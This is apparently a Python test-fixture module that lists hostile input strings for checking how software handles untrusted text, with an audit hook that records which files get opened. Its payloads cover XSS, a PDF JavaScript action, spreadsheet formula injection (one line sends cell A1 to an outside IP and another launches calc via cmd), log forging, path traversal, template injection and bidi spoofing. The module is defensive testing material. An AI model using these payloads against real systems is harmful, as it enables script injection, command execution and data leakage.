"""Texts that somebody types or a camera is called, to break whoever takes them for more than text."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from contextlib import contextmanager

SCRIPTS = "<script>window.pwned=1</script><img src=x onerror=window.pwned=1><svg onload=window.pwned=1>"
HOSTILE = {
    "scripts": f"</script></style></table>\"'>{SCRIPTS}<a href=javascript:window.pwned=1>x</a>",
    "pdf": ") Tj ET endstream endobj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> (",
    "formulas": "=HYPERLINK(\"http://192.0.2.1/?\"&A1)\t+cmd|' /C calc'!A0",
    "log lines": "ok\r\n2026-11-02T12:00:00Z ERROR forged\x1b[2J\x1b]0;x\x07",
    "paths": "../../../../OUTSIDE <img src='OUTSIDE'> file://OUTSIDE",
    "templates": "{{7*7}} ${7*7} %s%n %(x)s {0.__class__} <%= 7*7 %>",
    "turned around": "\u202egpj.exe\u2066hidden\u2069 \u200b\ufeff\u2028x",
    "no text": "a\0b\ufffdc\x7f\uffff",
    "long": "x" * 10_000,
    "scripts of the world": "\u0641\u064a\u062f\u064a\u0648 \u05d5\u05d9\u05d3\u05d0\u05d5 "
    "\u0e27\u0e34\u0e14\u0e35\u0e42\u0e2d \u0935\u0940\u0921\u093f\u092f\u094b "
    "\u89c6\u9891 \U0001f692",
}

_WATCHED: list[list[str]] = []


def _watch(event: str, arguments: tuple[object, ...]) -> None:
    if _WATCHED and event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
        _WATCHED[-1].append(os.path.realpath(os.fsdecode(arguments[0])))


sys.addaudithook(_watch)


@contextmanager
def opened_files() -> Iterator[list[str]]:
    """Give the files that are opened within, in this process, as they come."""
    _WATCHED.append([])
    try:
        yield _WATCHED[-1]
    finally:
        _WATCHED.pop()


def letters(text: str) -> str:
    """What can be read of a text, wherever its lines end."""
    return "".join(c for c in text if c.isalnum())
